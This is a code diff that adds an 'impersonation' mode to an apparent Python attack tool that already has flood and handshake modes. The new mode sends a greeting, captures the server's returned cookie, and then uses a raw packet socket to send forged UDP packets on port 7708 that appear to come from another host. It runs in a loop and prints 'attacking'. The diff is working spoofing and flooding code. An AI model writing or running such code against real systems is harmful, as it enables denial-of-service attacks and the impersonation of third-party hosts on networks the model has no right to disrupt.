@@ -17,7 +17,7 @@ import sys
 import time
 import zlib
 from collections import deque
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -43,10 +43,11 @@ MOST_REPLAYED = 128
 
 def main() -> None:
     asked = [json.loads(each) for each in sys.argv[1:]]
-    if asked[0]["kind"] == "handshake":
-        handshake(asked[0])
-    else:
+    alone = {"handshake": handshake, "impersonation": impersonate}.get(asked[0]["kind"])
+    if alone is None:
         flood(asked)
+    else:
+        alone(asked[0])
 
 
 def flood(asked: list[dict[str, Any]]) -> None:
@@ -200,6 +201,28 @@ def handshake(asked: dict[str, str]) -> None:
                     counts["streams"] += 1
             except OSError:
                 continue
+    print(json.dumps(counts), flush=True)
+
+
+def impersonate(asked: dict[str, str]) -> None:
+    """Greets from its own address, and sends the cookie that it hears back as another host, and exchanges of times."""
+    key, counts = random.getrandbits(64), {"greetings": 0, "exchanges": 0, "greeting_octets": 0}
+    greeting, exchange = header(GREETING, 1, key), header(SYNC, 1, key) + bytes(6) + b"\2\1"
+    with (
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own,
+        socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as other,
+    ):
+        own.connect((asked["to"], 7708))
+        own.settimeout(0.02)
+        other.bind((asked["dev"], 0))
+        print("attacking", flush=True)
+        while not select.select([sys.stdin], [], [], 0)[0]:
+            with suppress(OSError):
+                own.send(greeting + bytes(9))
+                forged = greeting + own.recv(2000)[42:50] + b"\0"
+                counts["greetings"] += sent(other, udp(asked, 7708, forged))
+                counts["exchanges"] += sent(other, udp(asked, 7708, exchange))
+                counts["greeting_octets"] += len(forged)
     print(json.dumps(counts), flush=True)
 
 
